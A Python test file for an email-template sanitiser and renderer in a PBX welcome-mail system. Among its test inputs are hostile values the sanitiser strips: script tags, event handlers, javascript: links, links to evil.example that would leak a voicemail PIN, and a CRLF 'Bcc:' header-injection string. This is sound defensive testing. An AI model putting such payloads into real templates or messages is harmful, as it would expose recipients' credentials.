"""Rules of a template: its content, its variables, and its plain text."""

from __future__ import annotations

from functools import partial

import pytest

from linkus.kit.messages import text
from linkus.mail.template import Compiled, Problem, Use, compile_template
from linkus.mail.template.clean import clean, removed
from linkus.mail.template.compiled import document
from linkus.mail.template.plain import plain_text
from linkus.mail.template.problems import find_problems, nearest
from linkus.welcome_mail.variables import WELCOME_VARIABLES

VARIABLES = WELCOME_VARIABLES.by_name
cleaned_of = partial(clean, vocabulary=WELCOME_VARIABLES)
compile_welcome = partial(compile_template, vocabulary=WELCOME_VARIABLES)
problems_of = partial(find_problems, vocabulary=WELCOME_VARIABLES)
nearest_to = partial(nearest, vocabulary=WELCOME_VARIABLES)

VALUES = {name: f"<{name}>" for name in VARIABLES}
LINK = "https://pbx.example.cn/login"


def html_of(body: str, **values: str) -> str:
    return compile_welcome("S", body).render({**VALUES, **values}, "en", {}).html


def subject_of(subject: str, **values: str) -> str:
    return compile_welcome(subject, "x").render({**VALUES, **values}, "en", {}).subject


class TestClean:
    @pytest.mark.parametrize(
        "kept",
        [
            '<h1 align="center">a</h1>',
            '<p lang="en" dir="ltr" title="t" style="color:red;margin:0">a</p>',
            '<p title="for {{.FirstName}}">a</p>',
            '<font color="red" face="Arial" size="2">a</font>',
            '<table width="1" border="0" cellpadding="1" cellspacing="1" bgcolor="red" role="presentation"><tbody>'
            '<tr valign="top" height="1"><td colspan="2" rowspan="2" width="1">a</td><th bgcolor="red">b</th></tr>'
            "</tbody></table>",
            '<ol start="3" type="a"><li>a</li></ol>',
            '<a href="https://x.cn">a</a>',
            '<a href="HTTP://x.cn:8080/a?b=c#d">a</a>',
            '<a href="mailto:a@x.cn">a</a>',
            '<a href="tel:+8610">a</a>',
            '<img src="{{.WebQRCode}}" alt="code of {{.FirstName}}" width="180" height="180">',
        ],
    )
    def test_stays(self, kept: str) -> None:
        assert cleaned_of(kept) == kept
        assert removed(kept, cleaned_of(kept)) == []

    @pytest.mark.parametrize(
        ("written", "left", "named"),
        [
            ("<script>x</script>a", "a", ["<script>"]),
            ("<form><p>a</p></form>", "<p>a</p>", ["<form>"]),
            ('<p onclick="x" id="y">a</p>', "<p>a</p>", ["<p onclick>", "<p id>"]),
            ('<p style="background:URL(//x)">a</p>', "<p>a</p>", ["<p style>"]),
            ('<p style="color:red;position:fixed">a</p>', '<p style="color:red">a</p>', []),
            ('<a href="javascript:x">a</a>', "<a>a</a>", ["<a href>"]),
            ('<a href="ftp://x.cn">a</a>', "<a>a</a>", ["<a href>"]),
            ('<a href="/relative">a</a>', "<a>a</a>", ["<a href>"]),
            ('<img src="https://x.cn/p.png" alt="a">', '<img alt="a">', ["<img src>"]),
            ('<img src="{{.FirstName}}">', "<img>", ["<img src>"]),
            ('<img src="a{{.WebQRCode}}">', "<img>", ["<img src>"]),
            ('<p title="{{.WebQRCode}}">a</p>', "<p>a</p>", ["<p title>"]),
            ('<table width="{{.FirstName}}"></table>', "<table></table>", ["<table width>"]),
            ('<a href="https://x.cn/{{.WebLoginLink}}">a</a>', "<a>a</a>", ["<a href>"]),
            ('<a href="{{.WebQRCode}}">a</a>', "<a>a</a>", ["<a href>"]),
            ('<a href="https://evil.example/?p={{.VoicemailPIN}}">a</a>', "<a>a</a>", ["<a href>"]),
            ('<a href="mailto:x@evil.example?body={{.VoicemailPIN}}">a</a>', "<a>a</a>", ["<a href>"]),
            ('<a href="{{.Unknown}}">a</a>', "<a>a</a>", ["<a href>"]),
        ],
    )
    def test_goes_and_is_named(self, written: str, left: str, named: list[str]) -> None:
        assert cleaned_of(written) == left
        assert removed(written, cleaned_of(written)) == named

    @pytest.mark.parametrize("scheme", ["ftp", "sms", "xmpp", "javascript"])
    def test_a_link_has_no_scheme_but_those_of_pages_mails_and_telephones(self, scheme: str) -> None:
        source = f'<a href="{scheme}:1001">x</a>'
        assert cleaned_of(source) == "<a>x</a>"
        assert removed(source, cleaned_of(source)) == ["<a href>"]

    def test_what_browsers_add_to_a_table_is_not_named_when_it_loses_an_attribute(self) -> None:
        source = '<table><tbody class="a"><tr><td>x</td></tr></tbody></table>'
        assert removed(source, cleaned_of(source)) == []

    def test_of_an_element_that_goes_its_attributes_are_not_named_too(self) -> None:
        source = '<iframe src="x" width="1"></iframe><p id="a">b</p>'
        assert removed(source, cleaned_of(source)) == ["<iframe>", "<p id>"]

    def test_one_of_several_that_goes_is_named(self) -> None:
        source = '<img src="{{.WebQRCode}}"><img src="https://x.cn/p.png">'
        assert removed(source, cleaned_of(source)) == ["<img src>"]

    @pytest.mark.parametrize("written", ["<![ x", "<![x y]>", "<![endif]-->", "a<![CDATA[b]]>"])
    def test_section_marks_are_no_error(self, written: str) -> None:
        assert removed(f"{written}<p>a</p>", cleaned_of(f"{written}<p>a</p>")) in ([], ["<p>"])

    def test_a_whole_page_loses_its_frame_in_silence(self) -> None:
        page = "<!DOCTYPE html><html><head><title>t</title><meta charset=utf-8></head><body><p>a</p></body></html>"
        assert removed(page, cleaned_of(page)) == []

    def test_the_list_of_what_went_is_short(self) -> None:
        source = "".join(f"<x{n}>" for n in range(30)) + f"<y{'z' * 100}>"
        assert removed(source, cleaned_of(source)) == [f"<x{n}>" for n in range(20)]
        [name] = removed(f"<y{'z' * 100}>", "")
        assert name == f"<y{'z' * 38}"


def test_thousands_of_problems_are_not_listed() -> None:
    found = problems_of("{{.a}}" * 5000)
    assert len(found) == 100
    assert found[-1].column == 99 * 6 + 1


class TestFill:
    def test_text_is_escaped(self) -> None:
        assert html_of("<p>{{.FirstName}}</p>", FirstName="<b>\"a\" & 'b'") == (
            "<p>&lt;b&gt;&quot;a&quot; &amp; &#x27;b&#x27;</p>"
        )

    def test_line_breaks_and_control_characters_become_one_space(self) -> None:
        assert html_of("{{.FirstName}}", FirstName="a\r\n\x00b") == "a b"
        assert html_of("{{.FirstName}}", FirstName="a\ud800b") == "ab"

    def test_a_whole_link_stays_as_it_is(self) -> None:
        assert html_of('<a href=" {{.WebLoginLink}} ">x</a>', WebLoginLink=f"{LINK}?a=1&b=2") == (
            f'<a href="{LINK}?a=1&amp;b=2">x</a>'
        )

    def test_a_part_of_a_link_is_quoted_for_it(self) -> None:
        html = html_of(
            '<a href="https://x.cn/?n={{.FirstName}}&m={{.EmailAddress}}">x</a>',
            FirstName="a b&/",
            EmailAddress="a@x.cn*",
        )
        assert html == '<a href="https://x.cn/?n=a%20b%26%2F&amp;m=a@x.cn*">x</a>'

    def test_a_picture_in_the_text_is_an_image_with_a_text_for_those_who_see_none(self) -> None:
        html = html_of("{{.MobileQRCode}}", MobileQRCode='cid:"1"')
        alt = text("en", "template_picture_mobile")
        assert html == (
            f'<img src="cid:&quot;1&quot;" width="180" alt="{alt}" '
            'style="display:block;width:180px;max-width:100%;height:auto;border:0">'
        )

    def test_a_picture_in_an_image_is_its_source_alone(self) -> None:
        assert html_of('<img src="{{.WebQRCode}}" alt="a">', WebQRCode="cid:1") == '<img src="cid:1" alt="a">'

    def test_in_a_text_for_those_who_see_no_picture_it_is_text(self) -> None:
        html = html_of('<p title="for {{.FirstName}}">a</p>', FirstName='Li & "Na"')
        assert html == '<p title="for Li &amp; &quot;Na&quot;">a</p>'

    def test_a_value_is_no_template(self) -> None:
        assert html_of("{{.FirstName}}", FirstName="{{.LastName}}") == "{{.LastName}}"

    def test_marks_of_ours_in_a_template_are_nothing(self) -> None:
        compiled = compile_welcome("S", "\ue000FirstName\ue002&#xE001;LastName&#xE002;")
        assert compiled.body == "FirstNameLastName"

    def test_the_subject_is_one_line_of_plain_text(self) -> None:
        assert subject_of(" Hello  {{.FirstName}}! ", FirstName="<a>\r\nBcc: x\u2028\ud800") == "Hello <a> Bcc: x !"
        assert subject_of("x" * 300) == "x" * 255


class TestCompiled:
    def compile(self, body: str, subject: str = "S") -> Compiled:
        return compile_welcome(subject, body)

    def test_of_a_good_template(self) -> None:
        compiled = self.compile("<p>{{.FirstName}} {{.WebQRCode}}<img src='{{.MobileQRCode}}'></p>", "{{.CompanyName}}")
        assert compiled.is_valid
        assert compiled.subject == "{{.CompanyName}}"
        assert compiled.body == '<p>{{.FirstName}} {{.WebQRCode}}<img src="{{.MobileQRCode}}"></p>'
        assert (compiled.removed, compiled.has_credentials) == ((), True)
        assert compiled.pictures == {"WebQRCode", "MobileQRCode"}

    @pytest.mark.parametrize("name", [name for name, variable in VARIABLES.items() if not variable.client_kind])
    def test_without_credentials(self, name: str) -> None:
        compiled = self.compile("{{." + name + "}}")
        assert (compiled.has_credentials, compiled.pictures) == (False, frozenset())

    def test_a_problem_of_the_subject_or_of_the_body_makes_it_invalid(self) -> None:
        assert not self.compile("x", "{{.Nonsens}}").is_valid
        assert not self.compile("{{.Nonsens}}").is_valid

    def test_a_problem_in_the_subject_has_its_place(self) -> None:
        [problem] = self.compile("x", "Your link: {{.WebLoginLink}}").subject_problems
        assert problem == Problem("template_variable_not_in_subject", "{{.WebLoginLink}}", 1, 12)

    def test_what_was_removed_is_told(self) -> None:
        assert self.compile("<script>x</script>").removed == ("<script>",)

    def test_a_problem_that_only_the_reader_would_see_is_found(self) -> None:
        [problem] = self.compile("&#123;&#123;.FirstNam&#125;&#125;").body_problems
        assert (problem.code, problem.suggestion) == ("template_variable_misspelt", "{{.FirstName}}")


class TestProblems:
    def test_come_in_the_order_of_the_text(self) -> None:
        found = problems_of("a {{.Zzzzqq}}\n{{FirstName}} {{.LastNam}}")
        assert found == [
            Problem("template_variable_unknown", "{{.Zzzzqq}}", 1, 3),
            Problem("template_variable_broken_near", "{{FirstName}}", 2, 1, "{{.FirstName}}"),
            Problem("template_variable_misspelt", "{{.LastNam}}", 2, 15, "{{.LastName}}"),
        ]

    @pytest.mark.parametrize(
        ("written", "meant"), [("{{.U ser N ame}}", "{{.UserName}}"), ("{{ .WEBQRCODE }}", "{{.WebQRCode}}")]
    )
    def test_of_a_broken_variable_its_letters_say_what_was_meant(self, written: str, meant: str) -> None:
        [problem] = problems_of(written)
        assert (problem.code, problem.suggestion) == ("template_variable_broken_near", meant)

    def test_have_their_line_and_column(self) -> None:
        assert [(each.line, each.column) for each in problems_of("\n\n ab}} }}\n}}")] == [(3, 4), (3, 7), (4, 1)]
        assert [(each.line, each.column) for each in problems_of("\n}}")] == [(2, 1)]

    def test_a_long_one_is_shown_in_part(self) -> None:
        [problem] = problems_of("{{." + "Q" * 80 + "}}")
        assert problem.text == ("{{." + "Q" * 80)[:60]

    def test_say_what_was_written_and_what_was_meant(self) -> None:
        misspelt, broken = problems_of("{{.FirstNam}} {{.")
        params: dict[str, object] = {"text": "{{.FirstNam}}", "line": 1, "column": 1, "suggestion": "{{.FirstName}}"}
        assert misspelt.params == params
        assert misspelt.message("en") == text("en", "template_variable_misspelt", **params)
        assert broken.text in broken.message("zh-CN")

    @pytest.mark.parametrize("name", sorted(VARIABLES))
    def test_a_name_in_any_case_and_with_one_letter_less_is_still_recognised(self, name: str) -> None:
        assert nearest_to(name.upper()) == "{{." + name + "}}"
        assert nearest_to(name[:-1]) == "{{." + name + "}}"


class TestPlainText:
    @pytest.mark.parametrize(
        ("html", "plain"),
        [
            ("a<br>b", "a\nb\n"),
            ("<p>a</p><p>b</p>", "a\n\nb\n"),
            ("<div>a</div><div>b</div>", "a\n\nb\n"),
            ("<h1>a</h1>b", "a\n\nb\n"),
            ("<center>a</center>b", "a\nb\n"),
            ('<a href="https://x.cn/12">https://x.cn/<b>12</b></a>', "https://x.cn/12\n"),
            ("<ul><li>a</li><li>b</li></ul>c", "- a\n- b\n\nc\n"),
            ("<table><tr><td>a</td><th>b</th></tr><tr><td>c</td></tr></table>d", "a b\n\nc\n\nd\n"),
            ("a\n \t  b", "a b\n"),
            ("<table><tr><td>a </td><td> b</td></tr></table>", "a b\n"),
            ("&lt;a&gt; &amp;", "<a> &\n"),
            ('<a href="https://x.cn">here</a>.', "here (https://x.cn).\n"),
            ('<a href="https://x.cn">https://x.cn</a>', "https://x.cn\n"),
            ('<a href="mailto:a@x.cn">a@x.cn</a>', "a@x.cn\n"),
            ('<a href="mailto:a@x.cn">write</a>', "write (a@x.cn)\n"),
            ('<a href="tel:110">call</a>', "call (110)\n"),
            ('a<a href="https://x.cn"></a>b', "a\nhttps://x.cn\nb\n"),
            ("<a>here</a>", "here\n"),
            ('<img src="cid:1" alt="code">', "https://login\n"),
            ('<img src="cid:2" alt="code">', "code\n"),
            ("a<img>b", "ab\n"),
            ("</a>a", "a\n"),
            ("<p>a</p>\n\n<p></p>\n\n<p>b</p>", "a\n\nb\n"),
            ("", "\n"),
        ],
    )
    def test_says_the_same(self, html: str, plain: str) -> None:
        assert plain_text(html, {"cid:1": "https://login"}) == plain

    def test_a_picture_is_its_link(self) -> None:
        compiled = compile_welcome("S", '<img src="{{.MobileQRCode}}"> {{.WebQRCode}}')
        rendered = compiled.render(
            {**VALUES, "MobileQRCode": "cid:1"}, "en", {"MobileQRCode": LINK, "DesktopQRCode": "x"}
        )
        assert rendered.plain == f"{LINK} {text('en', 'template_picture_web')}\n"


def test_the_page_around_a_mail() -> None:
    page = document("<p>a</p>", "zh-CN", "<你好>")
    assert page.startswith('<!DOCTYPE html>\n<html lang="zh-CN">\n<head>\n<meta charset="utf-8">\n')
    assert '\n<meta name="viewport" content="width=device-width, initial-scale=1">\n<title>' in page
    assert "font-family:'PingFang SC','Microsoft YaHei'," in page
    assert "<title>&lt;你好&gt;</title>" in page
    assert page.endswith("\n<p>a</p>\n</body>\n</html>\n")
    assert page.count("<body ") == 1


@pytest.mark.parametrize("variable", VARIABLES.values(), ids=str)
def test_every_variable_is_explained_in_both_languages(variable: object) -> None:
    found = VARIABLES[getattr(variable, "name", "")]
    assert found.explanation("zh-CN") == found.chinese
    assert found.explanation("en") == found.english
    assert found.use in Use
